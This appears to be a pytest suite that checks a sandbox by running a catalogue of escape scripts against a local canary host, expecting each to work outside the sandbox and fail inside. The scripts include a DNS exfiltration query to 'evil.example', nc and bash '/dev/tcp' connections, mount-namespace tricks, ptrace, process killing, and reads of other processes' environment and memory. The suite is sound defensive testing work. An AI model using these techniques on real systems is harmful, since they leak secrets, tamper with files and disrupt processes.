"""Each way out is open without the sandbox, and closed within it."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from migrate.shadow.legs import Leg
from migrate.shadow.recording import Recording
from migrate.shadow.sandbox import probe, run
from tests.escape.host import CANARY, Host, has_ipv6, host, own_address

REASON = probe()
pytestmark = pytest.mark.skipif(REASON is not None, reason=f"no sandbox here: {REASON}")


@dataclass(frozen=True)
class Attack:
    """A script that tries one way out, with the names of `Host` as its variables.

    `lacks` says what this machine lacks for the control, which then shows nothing; one that `kills` ends the victim.
    """

    source: str
    lacks: Callable[[], str] = lambda: ""
    kills: bool = False
    environment: tuple[tuple[str, str], ...] = ()

    def written(self, host_: Host, folder: Path) -> Path:
        """The script in a folder."""
        names = "".join(f"{name} = {value!r}\n" for name, value in host_.names.items())
        file = folder / "attack.py"
        file.write_text(f"CANARY = {CANARY!r}\n{names}{textwrap.dedent(self.source)}", encoding="utf-8")
        return file


def _no_command(name: str) -> Callable[[], str]:
    return lambda: "" if shutil.which(name) else f"the command {name} is not installed"


def _not_root() -> str:
    return "" if os.geteuid() == 0 else "it needs root"


def _no_ipv6() -> str:
    return "" if has_ipv6() else "this machine has no IPv6"


def _no_address() -> str:
    return "" if own_address() else "this machine has no address beside loopback"


_RAW = """
    import socket, struct
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    data = CANARY.encode()
    raw.sendto(struct.pack("!HHHH", 40000, UDP, 8 + len(data), 0) + data, ("127.0.0.1", 0))
    """

ATTACKS = {
    "hard-coded address of the machine": Attack(
        "import socket; socket.create_connection((OWN_ADDRESS, TCP), 5)", _no_address
    ),
    "hard-coded loopback address": Attack("import socket; socket.create_connection(('127.0.0.1', TCP), 5)"),
    "raw socket": Attack(_RAW, _not_root),
    "datagram": Attack(
        "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(CANARY.encode(), ('127.0.0.1', UDP))"
    ),
    "query to a name server of its own": Attack(
        """
        import socket, dns.message, dns.query
        query = dns.message.make_query(CANARY + ".evil.example", "TXT")
        try:
            dns.query.udp(query, "127.0.0.1", timeout=0.2, port=UDP)
        except dns.exception.Timeout:
            pass
        """
    ),
    "IPv6": Attack("import socket; socket.create_connection(('::1', TCP6), 5)", _no_ipv6),
    "unix socket": Attack("import socket; socket.socket(socket.AF_UNIX).connect(UNIX)"),
    "abstract socket": Attack("import socket; socket.socket(socket.AF_UNIX).connect(chr(0) + ABSTRACT)"),
    "inherited descriptor": Attack(
        """
        import os
        for number in range(3, 256):
            try:
                os.write(number, CANARY.encode())
            except OSError:
                pass
        """
    ),
    "NO_PROXY": Attack(
        "import requests; requests.get(f'http://127.0.0.1:{TCP}/', timeout=0.2)",
        environment=(("NO_PROXY", "*"), ("HTTP_PROXY", "http://127.0.0.1:1")),
    ),
    "client that ignores proxies": Attack(
        "import http.client; http.client.HTTPConnection('127.0.0.1', TCP, timeout=0.2).request('GET', '/')",
        environment=(("HTTP_PROXY", "http://127.0.0.1:1"), ("ALL_PROXY", "http://127.0.0.1:1")),
    ),
    "subprocess: curl": Attack(
        "import subprocess; subprocess.run(['curl', '-s', '-m', '1', f'http://127.0.0.1:{TCP}/'])",
        _no_command("curl"),
    ),
    "subprocess: wget": Attack(
        "import subprocess; "
        "subprocess.run(['wget', '-q', '-T', '1', '-t', '1', '-O', '-', f'http://127.0.0.1:{TCP}/'])",
        _no_command("wget"),
    ),
    "subprocess: nc": Attack(
        "import subprocess; subprocess.run(['nc', '-w', '1', '127.0.0.1', str(TCP)], input=b'x')",
        _no_command("nc"),
    ),
    "subprocess: bash": Attack(
        "import subprocess; subprocess.run(['bash', '-c', f'echo x > /dev/tcp/127.0.0.1/{TCP}'])",
        _no_command("bash"),
    ),
    "subprocess: node": Attack(
        "import subprocess; subprocess.run(['node', '-e', "
        "f'require(`net`).connect({TCP}, `127.0.0.1`).on(`connect`, () => process.exit())'])",
        _no_command("node"),
    ),
    "writing over a source": Attack("open(SOURCE, 'w').write('evil')"),
    "writing over a source by another name": Attack(
        """
        for root in ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/" + "../" * 20):
            try:
                open(root + SOURCE, "w").write("evil")
            except OSError:
                pass
        """
    ),
    "replacing a source": Attack(
        """
        import os
        open(SOURCE + ".new", "w").close()
        os.replace(SOURCE + ".new", SOURCE)
        """
    ),
    "removing its folder": Attack(
        "import os, shutil; shutil.rmtree(os.path.dirname(SOURCE)); "
        "os.mkdir(os.path.dirname(SOURCE)); open(SOURCE, 'w').close()"
    ),
    "mounting over what is read-only": Attack(
        """
        import ctypes
        libc = ctypes.CDLL(None)
        libc.unshare(0x10000000 | 0x00020000)
        libc.mount(None, b"/", None, 32 | 4096, None)
        open(SOURCE, "w").write("evil")
        """
    ),
    "signal to another process": Attack("import os; os.kill(VICTIM, 9)", kills=True),
    "signal to all": Attack(
        # The control must not end the whole machine.
        """
        import os
        if os.getpid() < 20:
            os.kill(-1, 9)
        else:
            os.kill(VICTIM, 9)
        """,
        kills=True,
    ),
    "trace of another process": Attack(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, VICTIM, None, None) == 0:
            os.waitpid(VICTIM, 0x40000000)
            libc.ptrace(8, VICTIM, None, None)
        """
    ),
    "environment of another process": Attack("print(open(f'/proc/{VICTIM}/environ').read())"),
    "environment of all processes": Attack(
        """
        import glob
        for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
            try:
                print(open(name).read())
            except OSError:
                pass
        """
    ),
    "memory of another process": Attack(
        """
        with open(f"/proc/{VICTIM}/maps") as maps, open(f"/proc/{VICTIM}/mem", "rb") as memory:
            stack = next(line for line in maps if "[stack]" in line).split()[0]
            start, end = (int(one, 16) for one in stack.split("-"))
            memory.seek(start)
            print(memory.read(end - start).decode("latin-1"))
        """
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_it_gets_out_without_the_sandbox(name: str, tmp_path: Path) -> None:
    attack = ATTACKS[name]
    if lack := attack.lacks():
        # A control that this machine cannot run shows nothing; the sandbox is tried all the same.
        pytest.skip(lack)
    with host(tmp_path / "host") as there:
        done = subprocess.run(
            [sys.executable, str(attack.written(there, tmp_path))],
            capture_output=True,
            text=True,
            cwd=tmp_path,
            env={"PATH": os.environ.get("PATH", os.defpath), **dict(attack.environment)},
            pass_fds=(there.inherited.fileno(),),
            timeout=60,
            check=False,
        )
        if attack.kills:
            there.victim.wait(60)
        assert there.reached(done.stdout), done.stderr


@pytest.mark.parametrize("name", ATTACKS)
def test_it_does_not_get_out_of_the_sandbox(name: str, tmp_path: Path) -> None:
    attack = ATTACKS[name]
    inside = tmp_path / "inside"
    inside.mkdir()
    with host(tmp_path / "host") as there:
        script = attack.written(there, inside)
        # The host's folder, in /tmp, would be hidden; as a source it is to be seen.
        leg = Leg(
            "attack",
            (sys.executable, str(script)),
            inside,
            60,
            {"PATH": os.environ.get("PATH", os.defpath), **dict(attack.environment)},
            visible=(there.folder,),
        )
        done = run(leg, Recording(), secrets={})
        assert not there.reached(done.stdout), done.stderr
        assert done.exit_status is not None


@pytest.mark.parametrize("name", ["writing over a source", "replacing a source", "removing its folder"])
def test_what_lies_beside_the_command_is_its_own_only_until_it_ends(name: str, tmp_path: Path) -> None:
    with host(tmp_path / "host") as there:
        script = ATTACKS[name].written(there, tmp_path)
        leg = Leg("attack", (sys.executable, str(script)), there.folder, 60, visible=(tmp_path,))
        done = run(leg, Recording())
        assert (done.exit_status, done.stderr) == (0, "") or name == "removing its folder"
        assert not there.reached(done.stdout)
